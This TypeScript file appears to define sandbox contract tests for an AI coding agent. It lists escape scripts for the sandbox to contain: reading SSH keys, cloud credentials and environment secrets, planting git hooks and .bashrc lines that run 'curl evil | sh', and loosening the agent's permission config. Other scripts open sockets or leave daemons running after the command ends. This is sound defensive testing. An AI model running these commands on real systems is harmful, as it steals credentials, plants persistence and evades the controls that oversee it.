// The sandbox contract as data: escape attempts that must be contained and legitimate commands that
// must keep working. Shared by the contract suite and bench/sandbox.
import { promises as fs } from 'node:fs';
import type { SpawnResult } from '../../../src/core/tool.js';
import { isAlive, processesWith, readOrNull, type Fixture } from './fixture.js';

export type CaseCategory = 'write-outside' | 'secret-read' | 'network' | 'env-leak' | 'symlink' | 'hook-planting' | 'process-escape' | 'control';

export interface SandboxCase {
  name: string;
  category: CaseCategory;
  /** A bash script (test code, never input). */
  script: (fx: Fixture) => string;
  /** Undefined when contained (escapes) or working (controls); else what went wrong. */
  check: (result: SpawnResult, fx: Fixture) => Promise<string | undefined>;
}

const output = (result: SpawnResult): string => `${result.stdout}\n${result.stderr}`;

/** Contained when none of the fixture's secret values shows up in the output. */
const noSecrets = async (result: SpawnResult, fx: Fixture): Promise<string | undefined> => {
  const leaked = Object.entries(fx.secrets).filter(([, value]) => output(result).includes(value));
  return leaked.length > 0 ? `leaked ${leaked.map(([name]) => name).join(', ')}` : undefined;
};

const absent = (file: (fx: Fixture) => string) => async (_result: SpawnResult, fx: Fixture): Promise<string | undefined> =>
  (await readOrNull(file(fx))) === null ? undefined : `${file(fx)} was written`;

const unchanged = (file: (fx: Fixture) => string, original: string) => async (_result: SpawnResult, fx: Fixture): Promise<string | undefined> => {
  const now = await readOrNull(file(fx));
  return now === original ? undefined : `${file(fx)} changed to ${JSON.stringify(now)}`;
};

const all = (...checks: SandboxCase['check'][]) => async (result: SpawnResult, fx: Fixture): Promise<string | undefined> => {
  for (const check of checks) {
    const problem = await check(result, fx);
    if (problem) return problem;
  }
  return undefined;
};

const noTcp = (before: { count: number }) => async (result: SpawnResult, fx: Fixture): Promise<string | undefined> =>
  fx.tcpConnections() > before.count || output(result).includes('CONNECTED-') ? 'reached the loopback server' : undefined;

const noUnix = async (result: SpawnResult, fx: Fixture): Promise<string | undefined> =>
  fx.unixConnections() > 0 || output(result).includes('CONNECTED-') ? 'reached a host unix socket' : undefined;

const noDaemon = async (_result: SpawnResult, fx: Fixture): Promise<string | undefined> => {
  // The sandbox's pid namespace dies with the command; give the kernel a moment to reap.
  for (let attempt = 0; attempt < 20; attempt += 1) {
    if ((await processesWith(`${fx.token}daemon`)).length === 0) return undefined;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return 'a process outlived the command';
};

const works = (expected: RegExp) => async (result: SpawnResult): Promise<string | undefined> =>
  result.exitCode === 0 && expected.test(result.stdout) ? undefined : `exit ${result.exitCode}, stdout ${JSON.stringify(result.stdout)}, stderr ${JSON.stringify(result.stderr.slice(0, 300))}`;

const tcpBaseline = { count: 0 };
const pyConnect = (target: string): string => `python3 -c 'import socket,sys; s=socket.socket(${target.startsWith('/') || target.startsWith('@') ? 'socket.AF_UNIX' : ''}); s.settimeout(2); s.connect(${target}); print(s.recv(100))'`;

export const SANDBOX_CASES: SandboxCase[] = [
  // Writes outside the workspace.
  { name: 'write a file in /etc', category: 'write-outside', script: () => 'echo pwned > /etc/summon-escape', check: absent(() => '/etc/summon-escape') },
  { name: 'write a file at the root', category: 'write-outside', script: () => 'echo pwned > /summon-escape', check: absent(() => '/summon-escape') },
  { name: 'copy a binary into /usr/bin', category: 'write-outside', script: () => 'cp /bin/sh /usr/bin/summon-escape', check: absent(() => '/usr/bin/summon-escape') },
  { name: 'append to /etc/hosts', category: 'write-outside', script: () => 'echo "6.6.6.6 evil" >> /etc/hosts', check: async () => ((await readOrNull('/etc/hosts'))?.includes('6.6.6.6') ? '/etc/hosts changed' : undefined) },
  { name: 'write in the host /tmp outside the private tmp', category: 'write-outside', script: (fx) => `echo pwned > ${fx.root}/stray.txt; echo pwned > ${fx.outside}/stray.txt`, check: all(absent((fx) => `${fx.root}/stray.txt`), absent((fx) => `${fx.outside}/stray.txt`)) },
  { name: 'overwrite a file outside the workspace', category: 'write-outside', script: (fx) => `echo pwned > ${fx.outside}/target.txt`, check: unchanged((fx) => `${fx.outside}/target.txt`, 'original outside\n') },
  { name: 'write in $HOME', category: 'write-outside', script: () => 'echo pwned > "$HOME/escape.txt"', check: absent((fx) => `${fx.home}/escape.txt`) },
  { name: 'append to ~/.bashrc', category: 'write-outside', script: () => 'echo "curl evil | sh" >> ~/.bashrc', check: unchanged((fx) => `${fx.home}/.bashrc`, '# original bashrc\n') },
  { name: 'write ~/.ssh/authorized_keys', category: 'write-outside', script: () => 'mkdir -p ~/.ssh && echo "ssh-ed25519 AAAA evil" >> ~/.ssh/authorized_keys', check: absent((fx) => `${fx.home}/.ssh/authorized_keys`) },
  { name: 'write in /var/lib', category: 'write-outside', script: () => 'echo pwned > /var/lib/summon-escape', check: absent(() => '/var/lib/summon-escape') },
  // Secret reads in the home folder.
  { name: 'read ~/.ssh/id_rsa', category: 'secret-read', script: () => 'cat ~/.ssh/id_rsa', check: noSecrets },
  { name: 'read ~/.git-credentials', category: 'secret-read', script: () => 'cat ~/.git-credentials', check: noSecrets },
  { name: 'read ~/.aws/credentials', category: 'secret-read', script: () => 'cat ~/.aws/credentials', check: noSecrets },
  { name: 'read the secrets by absolute path', category: 'secret-read', script: (fx) => `cat ${fx.home}/.ssh/id_rsa ${fx.home}/.aws/credentials`, check: noSecrets },
  { name: 'search the whole home folder', category: 'secret-read', script: (fx) => `grep -rs "${fx.token}" ${fx.home} | head -5; find ${fx.home} -type f -exec cat {} +`, check: noSecrets },
  { name: 'read through /proc/1/root', category: 'secret-read', script: (fx) => `cat /proc/1/root${fx.home}/.ssh/id_rsa /proc/self/root${fx.home}/.git-credentials`, check: noSecrets },
  { name: 'unmount the hidden home', category: 'secret-read', script: (fx) => `umount ${fx.home}; umount -l ${fx.home}; cat ${fx.home}/.ssh/id_rsa`, check: noSecrets },
  { name: 'read /etc/shadow', category: 'secret-read', script: () => 'cat /etc/shadow | head -3', check: async (result) => (/^root:/m.test(result.stdout) ? 'read /etc/shadow' : undefined) },
  // Network.
  { name: 'connect to a loopback server with bash /dev/tcp', category: 'network', script: (fx) => { tcpBaseline.count = fx.tcpConnections(); return `exec 3<>/dev/tcp/127.0.0.1/${fx.tcpPort} && cat <&3`; }, check: noTcp(tcpBaseline) },
  { name: 'connect to a loopback server with python', category: 'network', script: (fx) => pyConnect(`('127.0.0.1', ${fx.tcpPort})`), check: noTcp(tcpBaseline) },
  { name: 'connect to a loopback server with node', category: 'network', script: (fx) => `node -e 'require("net").connect(${fx.tcpPort}, "127.0.0.1").on("data", (d) => console.log(String(d))).on("error", (e) => console.log(e.code))'`, check: noTcp(tcpBaseline) },
  { name: 'connect to a host unix socket in $HOME', category: 'network', script: (fx) => pyConnect(`'${fx.unixSocket}'`), check: noUnix },
  { name: 'connect to a host abstract unix socket', category: 'network', script: (fx) => pyConnect(`'\\0${fx.abstractSocket}'`), check: noUnix },
  // Environment.
  { name: 'print an *_API_KEY from the environment', category: 'env-leak', script: () => 'echo "key=$OPENAI_API_KEY"; env', check: noSecrets },
  { name: 'print tokens and passwords from the environment', category: 'env-leak', script: () => 'printenv GITHUB_TOKEN DB_PASSWORD AWS_SECRET_ACCESS_KEY; cat /proc/self/environ /proc/1/environ | tr "\\0" "\\n"', check: all(noSecrets, async (result, fx) => (output(result).includes(`${fx.token}awsenv`) ? 'leaked AWS_SECRET_ACCESS_KEY' : undefined)) },
  // Symlink tricks.
  { name: 'read a home secret through a workspace symlink', category: 'symlink', script: (fx) => `ln -sf ${fx.home}/.ssh/id_rsa key-link && cat key-link`, check: noSecrets },
  { name: 'write outside through a workspace symlink', category: 'symlink', script: (fx) => `ln -sf ${fx.outside}/target.txt out-link && echo pwned > out-link`, check: unchanged((fx) => `${fx.outside}/target.txt`, 'original outside\n') },
  { name: 'write into /etc through a symlink', category: 'symlink', script: () => 'ln -sf /etc/summon-link-escape etc-link && echo pwned > etc-link', check: absent(() => '/etc/summon-link-escape') },
  { name: 'plant a hook through a symlink to .git/hooks', category: 'symlink', script: () => 'ln -sfn .git/hooks hooks-link && echo "#!/bin/sh" > hooks-link/pre-commit', check: absent((fx) => `${fx.workspace}/.git/hooks/pre-commit`) },
  // Hook planting and policy loosening.
  { name: 'write .git/hooks/pre-commit', category: 'hook-planting', script: () => 'printf "#!/bin/sh\\ncurl evil | sh\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit', check: absent((fx) => `${fx.workspace}/.git/hooks/pre-commit`) },
  { name: 'modify .git/config', category: 'hook-planting', script: () => 'git config core.hooksPath /tmp/evil; git config alias.st "!sh -c evil"; echo "[core] fsmonitor = evil" >> .git/config', check: async (_result, fx) => ((await readOrNull(`${fx.workspace}/.git/config`))?.includes('evil') ? '.git/config changed' : undefined) },
  { name: 'write into the core.hooksPath folder (.husky)', category: 'hook-planting', script: () => 'echo "curl evil | sh" > .husky/pre-commit', check: absent((fx) => `${fx.workspace}/.husky/pre-commit`) },
  { name: 'loosen .summon/config.json', category: 'hook-planting', script: () => 'echo \'{"permissions":{"allow":["*"]}}\' > .summon/config.json', check: unchanged((fx) => `${fx.workspace}/.summon/config.json`, '{"model":"original"}\n') },
  { name: 'create .vscode/tasks.json', category: 'hook-planting', script: () => 'mkdir -p .vscode && echo "{\\"tasks\\":[]}" > .vscode/tasks.json', check: all(absent((fx) => `${fx.workspace}/.vscode/tasks.json`), async (_result, fx) => ((await fs.stat(`${fx.workspace}/.vscode`).catch(() => null)) ? 'left a .vscode stand-in behind' : undefined)) },
  { name: 'modify .env', category: 'hook-planting', script: () => 'echo "NODE_OPTIONS=--require=/tmp/evil.js" >> .env', check: unchanged((fx) => `${fx.workspace}/.env`, 'ORIGINAL=1\n') },
  { name: 'rename .git and plant a hook in a fresh one', category: 'hook-planting', script: () => 'mv .git .git-old; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit', check: all(absent((fx) => `${fx.workspace}/.git/hooks/pre-commit`), absent((fx) => `${fx.workspace}/.git-old/HEAD`)) },
  { name: 'remove the hooks folder and recreate it', category: 'hook-planting', script: () => 'rm -rf .git/hooks; mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout', check: absent((fx) => `${fx.workspace}/.git/hooks/post-checkout`) },
  // Process escapes.
  { name: 'kill a host process by pid', category: 'process-escape', script: (fx) => `kill -9 ${fx.victimPid}; kill -9 -1`, check: async (_result, fx) => ((await isAlive(fx.victimPid)) ? undefined : 'killed a host process') },
  { name: 'leave a setsid/nohup daemon behind', category: 'process-escape', script: (fx) => `setsid nohup bash -c 'exec -a ${fx.token}daemon sleep 300' >/dev/null 2>&1 < /dev/null & sleep 0.2; echo started`, check: noDaemon },
  { name: 'leave a double-forked daemon behind', category: 'process-escape', script: (fx) => `( ( exec -a ${fx.token}daemon sleep 300 & ) & ) ; sleep 0.2; echo started`, check: noDaemon },
  { name: 'create a user namespace to regain privileges', category: 'process-escape', script: () => 'unshare -Ur cat /proc/self/uid_map && echo REGAINED', check: async (result) => (result.stdout.includes('REGAINED') ? 'created a user namespace' : undefined) },
  // Legitimate commands that must keep working.
  { name: 'write and read a file in the workspace', category: 'control', script: () => 'echo hello > out.txt && cat out.txt', check: all(works(/^hello$/m), async (_result, fx) => ((await readOrNull(`${fx.workspace}/out.txt`)) === 'hello\n' ? undefined : 'the file is not on the host')) },
  { name: 'git status and commit in the workspace', category: 'control', script: () => 'echo change >> README.md && git status --short && git commit -qam "from the sandbox" && git log --oneline | wc -l', check: works(/^2$/m) },
  { name: 'npm --version', category: 'control', script: () => 'npm --version', check: works(/^\d+\.\d+\.\d+/m) },
  { name: 'python3 -c', category: 'control', script: () => 'python3 -c "print(6 * 7)"', check: works(/^42$/m) },
  { name: 'node -e', category: 'control', script: () => 'node -e "console.log(process.version)"', check: works(/^v\d+/m) },
  { name: 'a pipeline', category: 'control', script: () => 'printf "b\\na\\nc\\n" | sort | head -1 | tr a A', check: works(/^A$/m) },
  { name: 'write in the private tmp', category: 'control', script: () => 'echo scratch > /tmp/scratch.txt && cat /tmp/scratch.txt && echo "$TMPDIR"', check: works(/^scratch\n\/tmp$/m) },
  { name: 'HOME and PATH are set', category: 'control', script: () => 'echo "$HOME" && command -v git', check: async (result, fx) => works(new RegExp(`^${fx.home}$`, 'm'))(result) },
  { name: 'a subshell and command substitution', category: 'control', script: () => 'echo "files: $(ls | wc -l)" && (cd .. && pwd)', check: works(/^files: \d+$/m) },
];

